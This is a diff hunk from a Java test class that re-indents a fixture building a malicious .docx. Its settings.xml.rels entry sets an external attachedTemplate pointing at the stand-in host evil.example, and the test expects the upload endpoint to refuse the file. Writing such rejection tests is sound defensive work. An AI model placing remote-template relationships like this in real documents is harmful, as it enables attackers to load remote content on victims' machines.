@@ -142,9 +142,9 @@ class BadBuyerFilesProcessTests extends EvidenceScene {
         entries.add(ArchiveEntry.text(
                 "word/_rels/settings.xml.rels",
                 "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship"
-                    + " Id=\"rId1\""
-                    + " Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\""
-                    + " Target=\"http://evil.example/\" TargetMode=\"External\"/></Relationships>"));
+                        + " Id=\"rId1\""
+                        + " Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\""
+                        + " Target=\"http://evil.example/\" TargetMode=\"External\"/></Relationships>"));
 
         refused(
                 send(post(consortium + "/buyer-forms?name=cadre.docx")
